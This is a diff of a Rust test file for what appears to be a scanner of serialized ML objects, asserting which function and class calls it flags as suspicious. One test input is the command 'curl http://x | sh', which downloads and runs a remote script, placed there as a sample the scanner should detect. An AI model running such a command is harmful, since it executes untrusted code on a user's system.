@@ -143,7 +143,11 @@ fn unknown_functions_are_found_and_unknown_classes_by_what_they_are_given() {
         "",
     );
     check(&whole(&call(&global("sklearn.new", "Estimator"), &[text("gini")])), Verdict::Clean, "");
-    check(&whole(&call(&global("new_library.tools", "Bot"), &[text("gini")])), Verdict::Found, "S008");
+    check(
+        &whole(&call(&global("new_library.tools", "Bot"), &[text("a"), text("b")])),
+        Verdict::Found,
+        "S008",
+    );
     check(
         &whole(&call(&global("new_library.tools", "Estimator"), &[text("curl http://x | sh")])),
         Verdict::Found,
